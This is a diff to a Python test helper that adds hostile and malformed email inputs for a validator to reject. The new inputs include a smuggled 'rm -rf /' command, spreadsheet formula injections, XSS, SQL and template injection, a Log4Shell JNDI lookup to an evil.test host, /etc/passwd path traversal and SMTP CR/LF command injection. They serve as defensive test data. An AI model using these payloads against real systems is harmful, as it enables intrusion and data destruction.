@@ -7,7 +7,10 @@ def spellings(address, random):
         return [address]
     local, domain = address.rsplit("@", 1)
     ways = [f" {address} ", f"<{address}>", f"{local}@{domain.upper()}", f"{local.upper()}@{domain}",
-            f"mailto:{address}", f"Someone <{address}>", f"{address}.", address]
+            f"mailto:{address}", f"Someone <{address}>", f"{address}.", address, f"\"{local}\"@{domain}",
+            f"\u00a0{address}\t", f"\ufeff{address}", f"{address},", f"\"Who, Else\" <{address}>"]
+    if "\"" in local:
+        ways = [f" {address} ", address]
     return [address, *random.sample(ways, random.randint(1, 3))]
 
 
@@ -21,7 +24,12 @@ def hostile():
         "ada@-bad-.test", "ada@pf10..test", ".ada@pf10.test", "ada.@pf10.test", "a..b@pf10.test",
         "ada@pf1_0.test;rm -rf /", "=cmd|' /C calc'!A0", "ada@\u202etset.01fp", "\u200bada@pf10.test\x7f",
         "ada@[127.0.0.1", "(comment", "\"unclosed@pf10.test", "ada>@pf10.test",
-        "ada@pf10.test SIZE=1 NOTIFY=SUCCESS",
+        "ada@pf10.test SIZE=1 NOTIFY=SUCCESS", "ada@pf10.test\rQUIT", "ada@pf10.test\nQUIT", "ada@pf10.test> BODY=8BITMIME",
+        "<@pf20.test:ada@pf10.test", "ada%pf20.test@", "\x1b[31mada@pf10.test", "ada@pf10.test\x85DATA",
+        "a" * 10_000 + "@pf10.test", "ada@" + "b" * 10_000 + ".test", "=HYPERLINK(\"http://evil.test\",\"x\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "' OR 1=1 --", "{{7*7}}", "${jndi:ldap://evil.test/a}",
+        "../../etc/passwd", "null", "N/A", "-", "ada@pf10.test@", "\"a\r\nRCPT TO:<bob\"@pf10.test", "\U0001f600",
+        "ada@pf10\u3002\u3002test",
     ]
     never = "invalid:bad_syntax"
     repaired = "unknown:not_probed unknown:provider_policy " + never
@@ -31,4 +39,10 @@ def hostile():
               "abuse@pf20.test")]
     rows += [("ada@localhost", "ada@localhost", "invalid:*")]
     rows += [("ada@169.254.169.254", "ada@169.254.169.254", repaired + " invalid:*")]
+    # A cell with two addresses, or with one in words, may be mended or not; nobody else may be asked for it.
+    rows += [(text, text, "invalid:* valid:* unknown:*") for text in
+             ("ada@pf10.test; bob@pf10.test", "ada at pf10 dot test", "'ada@pf10.test", "ada@pf10\uff0etest",
+              "<a href=\"mailto:ada@pf10.test\">ada</a>", "ada(comment)@pf10.test", "user%pf20.test@pf10.test",
+              "pf20.test!ada@pf10.test", "+ada@pf10.test", "-ada@pf10.test", "|cat@pf10.test", "/dev/null@pf10.test",
+              "ada@pf10.test?subject=hi", "ada@@pf10.test,", "\uff41\uff44\uff41@pf10.test")]
     return rows
